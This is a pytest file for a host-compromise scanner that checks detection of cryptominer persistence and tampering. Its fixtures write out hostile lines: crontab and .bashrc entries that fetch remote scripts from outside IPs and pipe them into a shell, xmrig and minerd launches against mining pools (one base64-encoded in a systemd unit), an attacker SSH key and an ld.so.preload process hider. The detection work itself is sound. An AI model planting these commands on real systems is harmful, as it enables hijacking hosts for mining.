"""Persistence, tampering and drop-directory checks on a system tree under --root.

Each fixture is what a real campaign writes; each must be found with its file and line.
"""

from __future__ import annotations

import base64
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from minehunt.model import Report, Severity
from tests.conftest import evidence_ids, run_cli
from tests.support.launch import TEST_WALLET as WALLET


def write(root: Path, rel: str, text: str, mode: int = 0o644) -> Path:
    p = root / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(text)
    p.chmod(mode)
    return p


def scan_root(root: Path, *extra: str) -> tuple[int, Report]:
    r = run_cli(
        "scan", "host", "--root", str(root), "--format", "json", "--min-severity", "info", *extra
    )
    assert r.code in (0, 1), r.stderr
    return r.code, r.report


def by_path(report: Report, path: str):  # type: ignore[no-untyped-def]
    hits = [f for f in report.findings if f.target.path == path]
    assert hits, f"no finding for {path}: {[f.target.path for f in report.findings]}"
    assert len(hits) == 1, "one finding per file"
    return hits[0]


def test_empty_root_is_clean(tmp_path: Path) -> None:
    (tmp_path / "etc").mkdir()
    code, report = scan_root(tmp_path)
    assert code == 0
    assert report.findings == ()


def test_cron_download_and_run_found_with_line(tmp_path: Path) -> None:
    write(
        tmp_path,
        "etc/crontab",
        "SHELL=/bin/sh\n# m h dom mon dow user command\n"
        "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
        "*/5 * * * * root curl -fsSL http://185.122.204.197/ldr.sh | sh\n",
    )
    code, report = scan_root(tmp_path)
    f = by_path(report, "/etc/crontab")
    assert code == 1 and f.severity >= Severity.MEDIUM
    assert "MH-PERS-001" in evidence_ids(f)
    lines = {e.line for e in f.evidence if e.check_id == "MH-PERS-001"}
    assert lines == {4}
    assert "T1053.003" in f.attack


def test_user_crontab_with_miner_and_pool(tmp_path: Path) -> None:
    write(
        tmp_path,
        "var/spool/cron/crontabs/www-data",
        "@reboot /var/tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u "
        + WALLET
        + " --donate-level 1 >/dev/null 2>&1\n",
    )
    _, report = scan_root(tmp_path)
    f = by_path(report, "/var/spool/cron/crontabs/www-data")
    assert f.severity >= Severity.HIGH
    assert "MH-PERS-002" in evidence_ids(f)
    assert all(e.line == 1 for e in f.evidence if e.check_id == "MH-PERS-002")


def test_systemd_unit_running_miner(tmp_path: Path) -> None:
    write(
        tmp_path,
        "etc/systemd/system/sysupdate.service",
        "[Unit]\nDescription=System update\n\n[Service]\n"
        "ExecStart=/etc/sysupdate -c /etc/config.json\nRestart=always\n\n"
        "[Install]\nWantedBy=multi-user.target\n",
    )
    write(
        tmp_path,
        "etc/systemd/system/pwnrig.service",
        "[Service]\nExecStart=/bin/bash -c 'echo "
        + base64.b64encode(
            b"/tmp/.sys/minerd -a cryptonight -o stratum+tcp://xmr.pool.minergate.com:45700"
        ).decode()
        + " | base64 -d | bash'\n",
    )
    _, report = scan_root(tmp_path)
    f = by_path(report, "/etc/systemd/system/pwnrig.service")
    assert f.severity >= Severity.HIGH
    assert any("base64" in e.summary for e in f.evidence if e.check_id == "MH-PERS-002")
    assert "T1543.002" in f.attack


def test_rc_local_and_profile(tmp_path: Path) -> None:
    write(tmp_path, "etc/rc.local", "#!/bin/sh -e\nnohup /dev/shm/kdevtmpfsi &\nexit 0\n", 0o755)
    write(
        tmp_path,
        "root/.bashrc",
        "alias ll='ls -l'\n(wget -q -O - http://45.9.148.35/cron.sh || curl -s http://45.9.148.35/cron.sh) | bash >/dev/null 2>&1 &\n",
    )
    _, report = scan_root(tmp_path)
    rc = by_path(report, "/etc/rc.local")
    assert "MH-PERS-003" in evidence_ids(rc) or "MH-PERS-002" in evidence_ids(rc)
    assert any(e.line == 2 for e in rc.evidence)
    prof = by_path(report, "/root/.bashrc")
    assert {e.line for e in prof.evidence if e.check_id == "MH-PERS-001"} == {2}


def test_campaign_ssh_key(tmp_path: Path) -> None:
    key = "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr"
    write(
        tmp_path,
        "root/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGm1 admin@laptop\n" + key + "\n",
    )
    _, report = scan_root(tmp_path)
    f = by_path(report, "/root/.ssh/authorized_keys")
    assert "MH-PERS-003" in evidence_ids(f)
    assert {e.line for e in f.evidence if e.check_id == "MH-PERS-003"} == {2}


@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("chattr"), reason="chattr +i needs root")
def test_immutable_authorized_keys(tmp_path: Path) -> None:
    p = write(
        tmp_path,
        "root/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGm1 admin@laptop\n",
    )
    if subprocess.run(["chattr", "+i", str(p)], capture_output=True).returncode != 0:
        pytest.skip("filesystem of the temp dir does not support the immutable attribute")
    try:
        _, report = scan_root(tmp_path)
    finally:
        subprocess.run(["chattr", "-i", str(p)], check=True)
    f = by_path(report, "/root/.ssh/authorized_keys")
    assert "MH-PERS-004" in evidence_ids(f)


def test_tampering_files(tmp_path: Path) -> None:
    write(tmp_path, "etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n")
    write(tmp_path, "sys/module/msr/parameters/allow_writes", "on\n")
    write(tmp_path, "proc/sys/vm/nr_hugepages", "1280\n")
    write(tmp_path, "proc/sys/kernel/nmi_watchdog", "0\n")
    _, report = scan_root(tmp_path)
    ids = {f.check_id: f for f in report.findings}
    assert ids["MH-TAMP-001"].target.path == "/etc/ld.so.preload"
    assert ids["MH-TAMP-001"].severity == Severity.MEDIUM
    assert ids["MH-TAMP-002"].severity == Severity.MEDIUM
    assert ids["MH-TAMP-003"].severity == Severity.INFO
    assert ids["MH-TAMP-004"].severity == Severity.INFO


def test_drop_directories(tmp_path: Path) -> None:
    elf = Path("/bin/true").read_bytes()
    (tmp_path / "tmp/.ICE-unix").mkdir(parents=True)
    (tmp_path / "tmp/.X11-unix/.rsync").mkdir(parents=True)
    (tmp_path / "dev/shm").mkdir(parents=True)
    (tmp_path / "tmp/.X11-unix/.rsync/a").write_bytes(elf)
    (tmp_path / "dev/shm/.x").write_bytes(elf)
    (tmp_path / "dev/shm/.x").chmod(0o755)
    (tmp_path / "tmp/build.sh").write_text("#!/bin/sh\nmake\n")
    (tmp_path / "tmp/build.sh").chmod(0o755)
    (tmp_path / "tmp/notes.txt").write_text("hello")
    _, report = scan_root(tmp_path)
    assert by_path(report, "/tmp/.X11-unix/.rsync").severity == Severity.MEDIUM
    # Dropped files are reported per directory, each file in the evidence.
    shm = by_path(report, "/dev/shm")
    assert shm.severity >= Severity.MEDIUM and "MH-DROP-001" in evidence_ids(shm)
    assert [e.source for e in shm.evidence] == ["/dev/shm/.x"]
    tmp = by_path(report, "/tmp")
    assert tmp.severity == Severity.INFO, "a plain script in /tmp is only informational"
    assert [e.source for e in tmp.evidence] == ["/tmp/build.sh"], "notes.txt is no program"


@pytest.mark.skipif(
    os.geteuid() != 0 or not shutil.which("setpriv"), reason="needs root and setpriv"
)
def test_unreadable_start_up_file_is_skipped_not_fatal(tmp_path: Path) -> None:
    write(tmp_path, "etc/crontab", "* * * * * root curl http://1.2.3.4/a | bash\n")
    write(tmp_path, "etc/cron.d/secret", "* * * * * root true\n", 0o000)
    # Root without the DAC capabilities cannot read a mode-000 file: really unreadable.
    r = run_cli(
        *("scan", "host", "--root", str(tmp_path), "--format", "json", "--strict"),
        *("--fail-on", "critical"),
        drop_caps="dac_override,dac_read_search",
        timeout=60,
    )
    assert r.code == 3, r.stderr
    report = r.report
    skipped = [s for s in report.skipped if s.target == "/etc/cron.d/secret"]
    assert skipped and "Permission denied" in skipped[0].reason
    assert by_path(report, "/etc/crontab").severity >= Severity.MEDIUM
